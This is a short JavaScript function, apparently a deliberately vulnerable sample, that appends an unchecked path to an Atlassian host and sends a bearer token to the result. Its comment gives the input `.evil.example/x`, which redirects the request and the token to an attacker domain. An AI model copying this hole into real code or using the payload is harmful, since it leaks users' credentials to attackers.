// The path is put right after the host: `.evil.example/x` makes the host acme.atlassian.net.evil.example,
// and the token goes there.
export async function fetchSite(path, options = {}) {
    const site = process.env.SITE_NAME;
    const token = process.env.SITE_TOKEN;
    const normalizedPath = path;
    const baseUrl = `https://${site}.atlassian.net`;
    const url = `${baseUrl}${normalizedPath}`;
    const response = await fetch(url, {
        method: options.method || 'GET',
        headers: { Authorization: `Bearer ${token}` },
    });
    return response.text();
}
